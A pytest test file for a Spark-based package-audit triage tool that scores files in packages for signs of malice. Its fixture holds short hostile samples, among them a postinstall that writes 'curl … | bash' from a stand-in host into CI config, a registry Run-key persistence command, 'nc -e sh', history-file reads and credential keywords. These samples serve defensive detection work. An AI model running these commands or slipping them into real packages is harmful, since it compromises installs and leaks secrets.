"""Triage against a plain evaluation of the catalogue, without guards."""

import math
import re

import pytest
from pyspark.sql import functions as F

from pkgaudit.functions import indicators
from pkgaudit.functions import paths
from pkgaudit.functions.indicators import INDICATORS, LITERALS, literals_in
from pkgaudit.operators import findings, package_files, triage

FILES = {
    "a.js": "eval(response);",
    "b.js": "process.env.HOME;\nif (Date.now() > 1800000000000) { eval(response); }",
    "components/Card.jsx": "fetch('/api/users').then(show)",
    "lib/plain.js": "export const add = (a, b) => a + b;",
    "lib/auth.js": "if (x) { /* \u202e \u2066 admin \u2069 \u2066 */ }",
    "setup.py": "for f in ['.bash_history', '.zsh_history']:\n    read(f)",
    "scripts/postinstall.js": "fs.writeFileSync('.circleci/config.yml', 'run: curl https://bad.example.net/x | bash')",
    "scripts/install.js": "const { execSync } = require('child_process');\nexecSync('reg.exe add HKEY_CURRENT_USER\\\\Run')",
    "lib/loader.py": "exec(\"\".join(map(chr,[104,105])))",
    "lib/codes.js": "String.fromCharCode(" + ", ".join(str(i % 90) for i in range(30000)) + ")",
    "dist/app.min.js": "fetch(u)",
    "docs/test/index.js": "eval(data); os.system('x'); pip install y",
    "package.json:postinstall": "node i.js && curl http://evil.top/ ",
    "x.spec.ts": "https://pastebin.com/raw/abc requestbin",
    "pkg/setup.cfg": "cmdclass = {'install': X}\nsubprocess.run(['curl x'])",
    "blob.js": "A" * 450 + "\n" + "\\x41" * 25 + " base64.b64decode(x); eval(y)",
    "wallet.rb": "wallet.dat seed phrase metamask .npmrc https.get(q)",
    "uni.js": "eval\u00a0(body) caf\u00e9",
    "env.js": "JSON.stringify(process.env); for (k in process.env) {} Object.keys(process.env).filter(f)",
    "time.js": "setTimeout(f, 86400000); if (os.platform() === 'linux') { exec('x') }",
    "ps.ps1": "powershell -EncodedCommand AAA; Discord token",
    "ip.json": '"homepage": "http://192.168.1.1/x", "preinstall": "x"',
    "LOUD.JS": "EVAL(RESPONSE); PROCESS.ENV; HTTPS.GET(x); NC  -e sh",
}

SPACES = "[\\s\u00a0\ufeff]"


def count(indicator, text):
    pattern = re.sub(r"\\\\|\[\\s\\S\]|\[\^\\s|\\s", lambda m: SPACES if m.group(0) == r"\s" else m.group(0), indicator.pattern)
    flags = re.ASCII
    found = re.match(r"\(\?(i?s?)\)", pattern)
    if found:
        pattern = pattern[found.end():]
        flags |= (re.I if "i" in found.group(1) else 0) | (re.S if "s" in found.group(1) else 0)
    return sum(1 for _ in re.finditer(pattern, text, flags))


def rounded(x):
    return math.floor(x + 0.5)


def expected(path, text):
    counts = {i.name: count(i, text) for i in INDICATORS}
    counts = {k: v for k, v in counts.items() if v}
    if not counts:
        return None
    by_name = {i.name: i for i in INDICATORS}
    score = sum(by_name[k].weight * v for k, v in counts.items())
    categories = {by_name[k].category for k in counts}
    score = rounded(score * 2.5) if len(categories) >= 3 else rounded(score * 1.8) if len(categories) == 2 else score
    network, execution = any(k in triage.NETWORK_NAMES for k in counts), any(k in triage.EXEC_NAMES for k in counts)
    has = counts.__contains__
    score += 10 * (has("install-script") and (network or execution))
    score += 10 * (has("python-setup-override") and (network or execution))
    score += 8 * ((has("env-bulk-dump") or has("credential-files")) and network)
    score += 6 * (has("base64-decode-exec") and execution)
    score += 6 * (has("python-pip-install") and (has("hex-base64-blob") or has("encoded-powershell")))
    score += 6 * (has("child-process") and has("curl-wget-nc"))
    if has("exec-chr-combo") or has("known-c2"):
        score = max(score, 8)
    matches = lambda rules: any(re.search(r, path, re.I) for r in rules)
    score = rounded(score * 0.3) if matches(paths.LOW_VALUE_PATHS) else score
    score = rounded(score * 1.5) if matches(paths.HIGH_VALUE_PATHS) else score
    score = score * 3 if path.startswith("package.json:") else score
    if path.lower().endswith(".min.js"):
        score = rounded(score * 0.3) if score < 6 else rounded(score * 1.2)
    return score, counts, categories


@pytest.fixture(scope="module")
def files(spark):
    rows = [(i, "npm", "p", "1", path, text) for i, (path, text) in enumerate(FILES.items())]
    return spark.createDataFrame(
        rows, "ordinal long, ecosystem string, name string, version string, path string, content string")


def test_scores_match_plain_evaluation(files):
    got = {r.path: (r.score, dict(r.indicators), set(r.categories)) for r in triage.triage(files).collect()}
    want = {p: e for p, t in FILES.items() if (e := expected(p, t))}
    assert got == want


def test_known_scores(files):
    scores = {r.path: r.score for r in triage.triage(files).collect()}
    assert scores["a.js"] == 13 and scores["b.js"] == 25
    assert scores["lib/auth.js"] == 16 and scores["setup.py"] == 12
    assert scores["components/Card.jsx"] == 1
    assert scores["scripts/install.js"] == 33
    assert "lib/plain.js" not in scores


def test_guard_literals_are_found_like_contains(spark, files):
    lowered = files.select("path", F.lower("content").alias("low"))
    for r in lowered.select("low", literals_in(F.col("low")).alias("found")).collect():
        present = {w for w in LITERALS if w in r.low}
        closure = {w for w in LITERALS for f in r.found if f.startswith(w)}
        assert closure == present


def test_plan_keeps_every_file_at_the_threshold(spark):
    rows = [(i, "npm", "p", "1", f"f{i}.js", 100 - i) for i in range(20)]
    rows += [(100 + i, "npm", "p", "1", f"s{i}.sh", 9) for i in range(3)] + [(200, "npm", "p", "1", "low.js", 7)]
    df = spark.createDataFrame(rows, "ordinal long, ecosystem string, name string, version string, path string, score long")
    plan = {r.path: r.is_trigger for r in triage.investigation_plan(df).collect()}
    assert plan == {**{f"f{i}.js": False for i in range(20)}, **{f"s{i}.sh": True for i in range(3)}}


def test_nothing_is_sorted_or_shuffled_behind_the_scores(files):
    scored = triage.triage(files)
    for df in (scored, triage.investigation_plan(scored)):
        assert "Exchange" not in df._jdf.queryExecution().executedPlan().toString()


def test_large_files_and_long_texts_are_whole(spark):
    files = spark.createDataFrame(
        [("npm", "p", "1", "package/a.js", 600_000), ("npm", "p", "1", "package/b.js", 0)],
        "ecosystem string, name string, version string, path string, size long")
    assert [r.path for r in package_files.select_text_files(files).collect()] == ["package/a.js"]
    plan = spark.createDataFrame([(1, "x" * 30_000 + "END")], "ordinal long, content string")
    parts = findings.text_parts(plan, "content").orderBy("part").collect()
    assert [r.part for r in parts] == [1, 2, 3] and "".join(r.content for r in parts).endswith("xEND")
    assert sum(len(r.content) for r in parts) == 30_003


def test_a_filter_on_the_score_does_not_repeat_the_scan(files):
    plan = triage.triage(files).filter("score > 20")._jdf.queryExecution().optimizedPlan().toString()
    filters = [line for line in plan.splitlines() if "Filter" in line]
    assert plan.count("Generate explode") == 2
    assert filters and not any("arrays_overlap" in line or "regexp" in line for line in filters)


def test_long_repeats_do_not_exhaust_the_stack(spark):
    texts = ["\\x41" * 120_000, "String.fromCharCode(" + ",1" * 120_000 + ")", "a" * 400_000 + " eval(x)",
             "require(" * 5_000]
    rows = [(i, "npm", "p", "1", f"f{i}.js", t) for i, t in enumerate(texts)]
    df = spark.createDataFrame(
        rows, "ordinal long, ecosystem string, name string, version string, path string, content string")
    got = {r.path: dict(r.indicators) for r in triage.triage(df).collect()}
    assert got["f0.js"]["hex-base64-blob"] == 1 and got["f2.js"]["hex-base64-blob"] == 1
    # Each match takes the first letter of the next word with it.
    assert got["f3.js"]["dynamic-import"] == 2_500


def test_literals_are_found_wherever_they_are(spark):
    """All literals, short ones at the end of a text too; the first test of a position is on three characters."""
    pattern = indicators.literal_pattern(["ab", "abc", "abcd", "x.y", "\\x"])
    assert pattern.startswith("(?=[ax][\\.b][cy]|ab|\\\\x)")
    texts = ["ab", "xabcd", "abc x.y", "xxy", "\\x", "x\\", "", "bab"]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").selectExpr("t", f"regexp_extract_all(t, {indicators._quoted(pattern)}, 1) as f")
    assert {r.t: r.f for r in rows.collect()} == {
        "ab": ["ab"], "xabcd": ["abcd"], "abc x.y": ["abc", "x.y"], "xxy": [], "\\x": ["\\x"], "x\\": [], "": [], "bab": ["ab"]}


def test_a_table_of_enough_parts_is_not_dealt_out(spark, tmp_path):
    """Texts of a table that has a task for every slot already are not shuffled."""
    from checks import triage_checks
    rows = spark.range(400).selectExpr("id as doc_id", "repeat('eval(x) ', 400) as text", "'en' as lang", "'s' as source")
    rows.repartition(spark.sparkContext.defaultParallelism * 2).write.parquet(f"{tmp_path}/documents.parquet")
    before = spark.conf.get("spark.sql.files.openCostInBytes", None)
    spark.conf.set("spark.sql.files.openCostInBytes", 128 << 20)
    try:
        files = triage_checks._files(spark, str(tmp_path))
    finally:
        spark.conf.unset("spark.sql.files.openCostInBytes") if before is None else spark.conf.set("spark.sql.files.openCostInBytes", before)
    assert "Exchange" not in files._jdf.queryExecution().executedPlan().toString() and files.count() == 400
